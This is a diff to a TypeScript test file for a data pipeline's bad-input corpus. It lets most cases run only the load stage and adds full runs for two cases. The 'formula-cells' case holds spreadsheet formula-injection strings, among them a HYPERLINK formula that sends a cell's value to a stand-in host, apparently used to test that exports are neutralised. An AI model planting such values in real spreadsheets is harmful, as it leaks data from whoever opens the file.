@@ -1,6 +1,7 @@
 // The bad-input corpus (tests/fixtures/bad/<case>/, made by tests/fixtures/bad/make.ts): for each case the exit code
 // and the exact rejects and warnings — or the error naming the file (and column) — and, for GOOD inputs in odd forms,
-// staging equal to the clean twin's (the clean fixture's files of the same datasets).
+// staging equal to the clean twin's (the clean fixture's files of the same datasets). Each case runs the load stage
+// only (pipeline/run.ts loadOnly): what is checked here is all decided there.
 import {afterAll, beforeAll, describe, expect, test} from "vitest";
 import {spawnSync} from "node:child_process";
 import {existsSync, readdirSync, readFileSync} from "node:fs";
@@ -22,6 +23,8 @@ interface Expected {
   /** Staging equals the clean twin's, after `map` on the case's JSON rows (true: unchanged). */
   twin?: boolean | ((table: string, rows: string[]) => string[]);
   check?: (o: Outcome) => void | Promise<void>;
+  /** Run the whole pipeline (report, meta, exports), not the load stage only. */
+  full?: boolean;
   /** Write generated inputs (not committed) into the temp copy of the case folder. */
   prepare?: (dir: string) => Promise<void>;
 }
@@ -243,6 +246,7 @@ export const EXPECTED: Record<string, Expected> = {
   "line-ends-cr": {exit: 0, twin: true, check: (o) => expect(o.staging.elders).toHaveLength(13)},
   "header-missing-ids": {
     exit: 0,
+    full: true,
     check: async (o) => {
       const elders = o.result.datasets.find((d) => d.dataset === "elders")!;
       expect(elders.status).toBe("failed");
@@ -259,6 +263,7 @@ export const EXPECTED: Record<string, Expected> = {
   },
   "formula-cells": {
     exit: 0,
+    full: true,
     check: async (o) => {
       const exportsDir = path.join(path.dirname(o.warehouse), "exports");
       const names = ['=HYPERLINK("http://x/?q="&A1,"a")', "+1养老院", "-2养老院", "@SUM(A1)"];
@@ -379,7 +384,7 @@ const folders: string[] = [];
 function twinFor(o: Outcome): Promise<Outcome> {
   const datasets = o.result.datasets.filter((d) => d.status === "loaded").map((d) => d.dataset);
   const key = datasets.join(",");
-  if (!twins.has(key)) twins.set(key, cleanSubset(datasets).then((dir) => (folders.push(dir), runCase(dir))));
+  if (!twins.has(key)) twins.set(key, cleanSubset(datasets).then((dir) => (folders.push(dir), runCase(dir, {loadOnly: true}))));
   return twins.get(key)!;
 }
 
@@ -392,7 +397,8 @@ async function runOne(name: string): Promise<void> {
     await e.prepare(input);
   }
   inputs.set(name, input);
-  const o = await runCase(input);
+  // the load stage only, unless the case checks what a full run writes (exports, report, meta)
+  const o = await runCase(input, {loadOnly: !e?.full});
   outcomes.set(name, o);
   if (process.env.CORPUS_VERBOSE) console.error(`corpus: ${name} exit ${o.result.exitCode} in ${o.seconds.toFixed(1)} s`);
   if (process.env.CORPUS_VERBOSE === "2") {
@@ -430,7 +436,7 @@ describe.each(CASES)("%s", (name) => {
     expect(o.result.exitCode, JSON.stringify(o.result.error)).toBe(e.exit);
     if (e.exit === 1) {
       expect(o.result.status).toBe("failed");
-      expect(existsSync(o.warehouse), "a failed run publishes nothing").toBe(false);
+      expect(existsSync(o.warehouse), "a failed run leaves nothing").toBe(false);
     }
     if (e.error) {
       const err = o.result.error!;
